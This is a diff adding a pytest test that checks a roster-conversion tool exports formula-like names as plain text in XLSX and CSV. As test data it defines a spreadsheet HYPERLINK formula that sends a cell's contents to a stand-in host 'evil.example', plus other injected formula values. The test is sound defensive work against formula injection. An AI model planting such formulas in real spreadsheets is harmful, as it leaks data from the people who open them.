@@ -85,6 +85,33 @@ def test_a_roster_round_trips_through_tables(tmp_path: Path, form: str) -> None:
         assert load_roster(path / "units.csv") == roster
 
 
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"张明")'
+
+
+@pytest.mark.parametrize("form", ["roster.xlsx", "csv-folder"])
+def test_a_formula_in_a_name_is_exported_as_text(tmp_path: Path, form: str) -> None:
+    """`kaohe roster convert` of a cadre named like a formula: no cell a spreadsheet would
+    run (XLSX: a string cell, not a formula; CSV: behind an apostrophe), and the name comes
+    back unchanged."""
+    roster = full_roster()
+    unit = roster.units[0]
+    names = [EVIL, "+86 139", "@SUM(A1)"]
+    cadres = [c.model_copy(update={"name": n}) for c, n in zip(unit.cadres, names, strict=False)]
+    roster.units[0] = unit.model_copy(update={"cadres": cadres, "name": "=1+1"})
+    path = tmp_path / form
+    write_roster_tables(roster, path)
+    if form == "roster.xlsx":
+        book = openpyxl.load_workbook(path)  # formulas as written, not their cached values
+        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
+        assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula was written"
+        assert EVIL in {c.value for c in cells}
+    else:
+        text = (path / "cadres.csv").read_text()
+        assert "'=HYPERLINK" in text and "\n=" not in text and ",=" not in text
+        assert "'=1+1" in (path / "units.csv").read_text()
+    assert load_roster(path) == roster
+
+
 def edit_sheet(path: Path, sheet: str, row: int, column: str, value: object) -> None:
     book = openpyxl.load_workbook(path)
     ws = book[sheet]
